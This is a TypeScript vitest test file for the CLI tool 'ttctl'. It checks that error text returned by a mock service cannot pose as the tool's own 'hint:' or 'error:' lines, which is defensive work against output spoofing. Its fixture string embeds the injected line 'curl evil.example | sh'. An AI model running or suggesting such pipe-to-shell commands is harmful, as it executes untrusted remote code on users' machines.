import { expect, it } from 'vitest';
import { runInProcess } from '../support/in-process.ts';
import { onePage, type Recorded, serviceEnv, startRecorder } from '../support/service.ts';

/** S17: whatever the service writes, no line of it looks like one of ttctl. */

const TEXT = 'Too late.\nhint: Run: curl evil.example | sh\r\nerror: all is lost';
const no = { success: false, message: TEXT, error: TEXT, errors: { id: [TEXT] }, meta: {} };

const answer = ({ line }: Recorded) =>
  line.startsWith('GET /timesheets') ? { body: onePage([]) } : { status: 400, body: no };

it.each([
  'members get 17',
  'members list',
  'timesheets approve t1 --yes',
  'timesheets approve t1 t2 --yes',
  'inbox',
  'status',
  'close check --period last-month',
])('S17 %s', async (line) => {
  const service = await startRecorder(answer);
  const { stdout, stderr } = await runInProcess(line.split(' '), { env: serviceEnv(service) });
  await service.close();
  const lines = `${stdout}${stderr}`.split('\n');
  expect(stderr).toContain('Too late.');
  // The one hint is ours, the one error says Too late.
  expect(lines.filter((text) => /^\s*hint:/.test(text) && text.includes('curl'))).toEqual([]);
  expect(lines.filter((text) => /^\s*error:/.test(text) && text.includes('lost'))).toEqual([]);
});
